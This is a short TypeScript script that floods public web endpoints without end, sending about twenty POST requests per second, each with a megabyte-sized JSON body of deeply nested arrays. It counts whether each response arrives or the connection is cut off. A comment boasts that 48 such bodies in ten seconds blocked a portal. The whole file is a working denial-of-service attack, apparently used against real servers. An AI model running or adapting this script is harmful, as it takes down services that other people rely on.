import { setTimeout as wait } from 'node:timers/promises';
import { attack } from './underWay.ts';

/** Bodies per second; 48 in 10 s were enough to block a portal. */
const perSecond = 20;

/** Sends JSON bodies of a megabyte of nested structure, under an unknown key, to public endpoints. */
await attack<{ readonly url: string; readonly paths: readonly string[] }>(async ({ url, paths }, count) => {
  const body = `{"unknown":[${'[],'.repeat(330_000)}[]]}`;
  for (let n = 0; ; n++) {
    const path = paths[n % paths.length];
    void fetch(url + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body }).then(
      ({ status }) => count(`answered ${status}`),
      () => count('cut off'),
    );
    await wait(1000 / perSecond);
  }
});
